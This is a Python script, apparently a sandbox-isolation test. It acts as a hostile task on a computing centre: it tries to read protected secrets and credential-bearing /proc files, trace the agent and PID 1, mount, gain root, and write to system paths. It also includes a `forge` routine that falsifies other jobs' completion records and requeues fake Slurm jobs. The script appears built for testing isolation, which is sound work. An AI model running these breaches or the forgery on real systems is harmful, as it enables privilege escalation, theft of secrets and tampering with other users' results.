"""Attacks of a hostile task on a centre; run by path, it prints as JSON what succeeded.

    python task_attack.py SECRET SOCKET OUTSIDE PROCESS [PRIVATE ...]

The arguments are a file that only the agent may read, a socket that only the agent may open, a folder that the task has
no business in, a process of the agent, and more files and folders that only the agent may read.

`forge` is an additional attack on other tasks where all tasks run as one user: it passes them off as successful.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from pathlib import Path

_PTRACE_ATTACH, _PTRACE_DETACH, _WALL = 16, 17, 0x40000000
_SUCCESS = json.dumps({"exit_code": 0, "reason": "", "started_ns": 1, "finished_ns": 2})
_LOOK_S, _OVERWRITE_S = 0.1, 0.005
_AFTER_S = 3.0
"""After the end of a job: its watcher polls more often than that."""
_libc = ctypes.CDLL(None, use_errno=True)


def tried(act: Callable[[], object]) -> bool:
    """Return whether something could be done."""
    try:
        act()
    except OSError:
        return False
    return True


def connect(path: str) -> None:
    """Open a socket."""
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path)


def trace(process: int) -> None:
    """Trace a process, and let go of it again."""
    _check(_libc.ptrace(_PTRACE_ATTACH, process, None, None))
    os.waitpid(process, _WALL)
    _check(_libc.ptrace(_PTRACE_DETACH, process, None, None))


def mount() -> None:
    """Mount a file system over the task's own folder."""
    _check(_libc.mount(b"none", b".", b"tmpfs", 0, None))


def names(path: str) -> list[str]:
    """List a folder."""
    return sorted(each.name for each in Path(path).iterdir())


def seen(path: str) -> list[str]:
    """List a folder; empty where it is missing or not readable."""
    with suppress(OSError):
        return names(path)
    return []


def look_into(path: str) -> None:
    """List a folder, or read the beginning of a file; an empty file counts as unreadable, as masked ones are empty."""
    if Path(path).is_dir():
        names(path)
        return
    with Path(path).open("rb") as file:
        if not file.read(1):
            raise OSError("it is empty")


def write_scratch() -> None:
    """Write a temporary file, and remove it: on some engines it is the machine's."""
    path = Path(f"/tmp/mine-{os.getpid()}")
    path.write_text("x")
    path.unlink()


def rewrite(path: str) -> None:
    """Write what a file says anyway."""
    Path(path).write_text(Path(path).read_text())


def main(secret: str, server: str, outside: str, process: str, *private: str) -> dict[str, object]:
    """Try everything."""
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    return {
        "user": os.getuid(),
        "groups": os.getgroups(),
        "capabilities": [int(status[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")],
        "no_new_privs": status["NoNewPrivs"],
        "namespaces": {name: str(Path(f"/proc/self/ns/{name}").readlink()) for name in ("mnt", "pid", "ipc")},
        "processes": sorted(int(name) for name in names("/proc") if name.isdecimal()),
        "scratch": [seen(path) for path in ("/tmp", "/var/tmp", "/dev/shm", "/run")],
        "beside": seen(".."),
        "reads the secret": tried(lambda: Path(secret).read_bytes()),
        "reads the secret from the one above": tried(lambda: Path(f"/proc/1/root{secret}").read_bytes()),
        "reads what is private": any(tried(partial(look_into, path)) for path in private),
        "opens the socket": tried(lambda: connect(server)),
        "writes outside": tried(lambda: Path(outside, "mine").write_text("x")),
        "writes a group": tried(lambda: Path("/sys/fs/cgroup/mine").mkdir()),
        "writes a program": tried(lambda: Path("/usr/bin/mine").write_text("x")),
        "sees the agent": int(process) != os.getpid() and Path(f"/proc/{process}").exists(),
        "signals the agent": int(process) != os.getpid() and tried(lambda: os.kill(int(process), 0)),
        "traces the agent": tried(lambda: trace(int(process))),
        "traces the one above": tried(lambda: trace(1)),
        "reads the one above": tried(lambda: Path("/proc/1/environ").read_bytes()),
        "reads the kernel": any(tried(partial(look_into, path)) for path in ("/proc/kcore", "/dev/mem")),
        "sets up the kernel": tried(lambda: rewrite("/proc/sys/kernel/panic")),
        "mounts": tried(mount),
        "becomes root": tried(lambda: os.setuid(0)),
        "writes its own": tried(lambda: Path("mine").write_text("x")),
        "writes scratch": tried(write_scratch),
    }


def forge(jobs: str, most_s: float) -> int:
    """Make all other jobs below a folder look successful until some time after they have ended; return their number.

    Overwrite each record of a job's end faster than anybody reads it. Where there is a Slurm, also queue a job that
    succeeds under the same name and comment. Give up after `most_s` without any other job.
    """
    records: set[Path] = set()
    over_s, look_s = time.monotonic() + most_s, 0.0
    while time.monotonic() < over_s:
        if time.monotonic() >= look_s:
            running = set(_running_in(Path(jobs)))
            if running - records:
                _queue_again()
            if running:
                records |= running
                over_s = time.monotonic() + _AFTER_S
            look_s = time.monotonic() + _LOOK_S
        for record in records:
            with suppress(OSError):
                (record / "forged").write_text(_SUCCESS)
                (record / "forged").replace(record / "ended.json")
        time.sleep(_OVERWRITE_S)
    return len(records)


def _running_in(jobs: Path) -> Iterator[Path]:
    """Yield where records of other jobs are, by the folders that processes work in or were started with."""
    named: set[str] = set()
    for process in (path for path in Path("/proc").iterdir() if path.name.isdecimal()):
        with suppress(OSError):
            named.update((process / "cmdline").read_bytes().decode(errors="replace").split("\0"))
        with suppress(OSError):
            named.add(str((process / "cwd").readlink()))
    for path in map(Path, named):
        if path.is_relative_to(jobs) and path != jobs:
            folder = jobs / path.relative_to(jobs).parts[0]
            if folder != Path.cwd():
                yield folder / ".millrace"


def _queue_again() -> None:
    """Queue a job that succeeds for each of Slurm's that has not ended, with its name and comment."""
    with suppress(OSError, ValueError, subprocess.SubprocessError):
        asked = subprocess.run(("squeue", "--json"), capture_output=True, check=True, timeout=30)
        for job in json.loads(asked.stdout)["jobs"]:
            if job["job_state"] in ("PENDING", "RUNNING") and str(job["job_id"]) != os.environ.get("SLURM_JOB_ID"):
                words = (f"--job-name={job['name']}", f"--comment={job['comment']}", "--output=/dev/null")
                subprocess.run(
                    ("sbatch", "--chdir=/tmp", *words, "--wrap=true"), capture_output=True, check=True, timeout=30
                )


def _check(result: int) -> None:
    if result != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


if __name__ == "__main__":
    json.dump(main(*sys.argv[1:]), sys.stdout)
